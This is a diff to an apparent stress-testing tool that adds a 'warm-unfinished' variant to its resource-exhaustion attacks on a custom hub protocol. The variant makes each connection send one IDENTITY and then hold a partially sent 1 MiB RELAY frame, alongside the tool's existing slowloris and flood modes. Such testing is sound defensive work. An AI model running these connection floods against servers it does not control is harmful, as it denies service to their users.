@@ -202,9 +202,12 @@ class Pump:
             state[0] = view
 
 
-def attack_unfinished(addr, scale):
-    """Connections that announce a 1 MiB RELAY and send all but its last byte."""
+def attack_unfinished(addr, scale, warm=False):
+    """Connections that announce a 1 MiB RELAY and send all but its last byte (with `warm`, after one
+    IDENTITY each, so the hub already reads them as proven light clients)."""
     socks = connect_many(addr, scale["unfinished"])
+    if warm:
+        identities(addr, socks)
     pump = Pump()
     # One bytes object shared by every connection: 8000 private copies would cost this tool 8 GB.
     unfinished = HEADER.pack(RELAY, 1, 0, 8 + MAX_BODY) + struct.pack("<Q", 1) + b"u" * (MAX_BODY - 1)
@@ -246,6 +249,7 @@ def attack_slowloris(addr, scale):
 
 ATTACKS = {
     "unfinished": lambda addr, scale: attack_unfinished(addr, scale),
+    "warm-unfinished": lambda addr, scale: attack_unfinished(addr, scale, warm=True),
     "stalled": lambda addr, scale: attack_stalled(addr, scale),
     "list-flood": lambda addr, scale: attack_flood(addr, scale, LIST),
     "identity-flood": lambda addr, scale: attack_flood(addr, scale, IDENTITY),
